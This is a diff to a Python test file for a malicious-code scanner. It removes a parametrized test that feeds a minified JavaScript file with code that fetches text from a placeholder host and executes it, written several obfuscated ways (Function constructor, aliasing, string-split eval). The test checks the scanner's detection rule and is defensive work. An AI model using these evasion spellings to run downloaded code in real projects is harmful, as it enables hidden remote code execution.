@@ -111,24 +111,6 @@ def test_dependencies_and_minified_files_are_read_for_malicious_code_only(tree):
     }
 
 
-@pytest.mark.parametrize(
-    "run",
-    [
-        "Function(text)()",
-        "var F = Function; F(text)()",
-        "(0, Function)(text)()",
-        "[].constructor.constructor(text)()",
-        "window['ev' + 'al'](text)",
-    ],
-)
-def test_a_minified_file_is_read_however_it_spells_what_runs_texts(tree, run):
-    text = f"fetch('https://x.example/a').then(a => a.text()).then(text => {{ {run} }});\n"
-
-    (finding,) = findings_in(tree({"public/app.min.js": text}))
-
-    assert finding.rule == "javascript.exec-downloaded"
-
-
 def test_broken_and_nested_files_end_neither_the_scan_nor_the_process(tree):
     files = {
         "deep.js": "[" * 200_000,
